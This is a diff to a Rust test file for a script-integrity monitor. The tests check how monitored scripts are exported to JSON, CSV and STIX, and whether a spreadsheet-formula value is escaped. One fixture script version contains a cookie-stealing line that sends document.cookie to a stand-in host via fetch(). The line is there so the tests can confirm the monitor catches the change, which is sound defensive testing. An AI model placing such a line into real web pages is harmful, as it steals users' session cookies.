@@ -10,7 +10,9 @@ use std::path::{Path, PathBuf};
 use binary::{Folder, PLAIN, examples, run};
 use boon::{Compiler, SchemaIndex, Schemas};
 use serde_json::{Value, json};
-use verdict::export::{Entry, Sighting, StixBundle, Version, csv_header, csv_row};
+use verdict::export::{Entry, Sighting, StixBundle, csv_header, csv_row};
+use verdict::monitor::{Authorisation, MemoryStore, Monitor, Observation, Status};
+use verdict::{ResourceKind, Timestamp};
 
 fn shop(format: &str) -> binary::Ran {
     let feed = format!("{}:hosts:malware", examples().join("feeds/demo-hosts.txt").display());
@@ -121,17 +123,76 @@ fn entries_are_read_back_as_they_were_written() {
         assert_eq!(serde_json::to_value(&entry).unwrap(), line);
     }
     // With what a monitor adds.
-    let mut entry = malicious_entry();
-    let mut sighting = Sighting::new("active", "2026-11-20T08:00:00Z", "2026-11-22T08:00:00Z");
-    sighting.first_page_url = Some("https://shop.example/".to_owned());
-    entry.sighting = Some(sighting);
-    let mut version = Version::new("a".repeat(64), "2026-11-21T08:00:00Z");
-    version.changes.hosts_added.push("evil.example".to_owned());
-    version.scores = entry.verdict.scores;
-    entry.versions = vec![version, Version::new("b".repeat(64), "2026-11-20T08:00:00Z")];
+    let entry = remembered();
     let value = serde_json::to_value(&entry).unwrap();
     assert_eq!(serde_json::from_value::<Entry>(value.clone()).unwrap(), entry);
     scan_schema().accept(&value);
+}
+
+/// An entry as a monitor makes it: a script with two versions that somebody approved.
+fn remembered() -> Entry {
+    let mut feeds = threatfeed::FeedSet::builder();
+    feeds.feed(threatfeed::FeedSource::new("demo", threatfeed::Format::Domains), b"evil.example\n");
+    let engine = verdict::Engine::builder()
+        .scorer(jsintegrity::Scorer::bundled().unwrap())
+        .feeds(feeds.build().unwrap())
+        .build();
+    let mut monitor = Monitor::open(MemoryStore::new(), engine).unwrap();
+    let url = "https://cdn.evil.example/=x.js";
+    let seen = Observation::script(url).on_page("https://shop.example/");
+    for (source, hour) in [("a(1)", 8), ("a(1);fetch('https://c.example/'+document.cookie)", 9)] {
+        let at = time(&format!("2026-11-20T{hour:02}:00:00Z"));
+        monitor.observe(&seen.clone().with_source(source), at).unwrap();
+        let said = Authorisation::new(ResourceKind::Script, url, "=ratings", "Kim").approving();
+        if hour == 8 {
+            monitor.justify(&said, at).unwrap();
+        }
+    }
+    let at = time("2026-11-20T10:00:00Z");
+    let resource = monitor.resource_at(ResourceKind::Script, url, at).unwrap().unwrap();
+    let verdict = monitor.verdict(resource.id, at).unwrap().unwrap();
+    Entry::from((resource, verdict))
+}
+
+fn time(text: &str) -> Timestamp {
+    text.parse().unwrap()
+}
+
+#[test]
+fn an_entry_of_a_monitor_says_what_it_remembers() {
+    let entry = remembered();
+    let value = serde_json::to_value(&entry).unwrap();
+    assert_eq!(value["status"], "infrequent");
+    assert_eq!(
+        (&value["first_seen_at"], &value["last_seen_at"]),
+        (&json!("2026-11-20T08:00:00Z"), &json!("2026-11-20T09:00:00Z"))
+    );
+    assert_eq!((value["count"].as_u64(), value["versions"].as_array().unwrap().len()), (Some(2), 2));
+    let change = &value["versions"][0]["change"];
+    assert_eq!(
+        (&change["structure_changed"], &change["hosts_appeared"]),
+        (&json!(true), &json!(["c.example"]))
+    );
+    assert_eq!(value["hash"], value["versions"][0]["hash"]);
+    assert!(value["model"].is_string(), "the model that scored then");
+    let table = csv_records(&(csv_header() + &csv_row(&entry)));
+    let field = |name: &str| table[1][table[0].iter().position(|column| column == name).unwrap()].as_str();
+    for (name, want) in [
+        ("name", "https://cdn.evil.example/=x.js"),
+        ("malicious_by", "domain"),
+        ("status", "infrequent"),
+        ("first_seen_at", "2026-11-20T08:00:00Z"),
+        ("last_seen_at", "2026-11-20T09:00:00Z"),
+        ("first_page_url", "https://shop.example/"),
+        ("count", "2"),
+        ("versions", "2"),
+        ("justification", "'=ratings"),
+        ("justified_by", "Kim"),
+        ("justified_at", "2026-11-20T08:00:00Z"),
+        ("authorisation", "code_changed"),
+    ] {
+        assert_eq!(field(name), want, "{name}");
+    }
 }
 
 /// Files of version 1 were written by the first release; they stay readable, and as much as they said is kept.
@@ -220,7 +281,8 @@ fn stix_bundles_hold_valid_indicators() {
 
     // What is seen again keeps its id.
     let mut entry = malicious_entry();
-    entry.sighting = Some(Sighting::new("active", "2026-11-20T08:00:00Z", "2026-11-22T08:00:00Z"));
+    entry.sighting =
+        Some(Sighting::new(Status::Active, time("2026-11-20T08:00:00Z"), time("2026-11-22T08:00:00Z")));
     let ids = |made_at: &str| {
         let mut bundle = StixBundle::new(made_at);
         bundle.add(&entry);
